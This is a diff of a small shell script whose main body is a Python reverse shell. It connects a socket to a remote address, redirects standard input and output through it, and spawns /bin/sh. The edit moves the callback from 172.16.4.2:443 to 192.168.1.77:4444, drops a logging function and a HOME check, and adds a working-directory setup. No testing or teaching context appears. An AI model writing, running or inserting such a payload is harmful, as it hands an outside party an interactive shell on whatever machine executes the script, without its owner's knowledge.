@@ -1,12 +1,10 @@
 #!/bin/sh
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
 python3 - <<EOF
 import socket,os,pty
 s=socket.socket()
-s.connect(("172.16.4.2",443))
+s.connect(("192.168.1.77",4444))
 [os.dup2(s.fileno(),f) for f in (0,1,2)]
 pty.spawn("/bin/sh")
 EOF
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
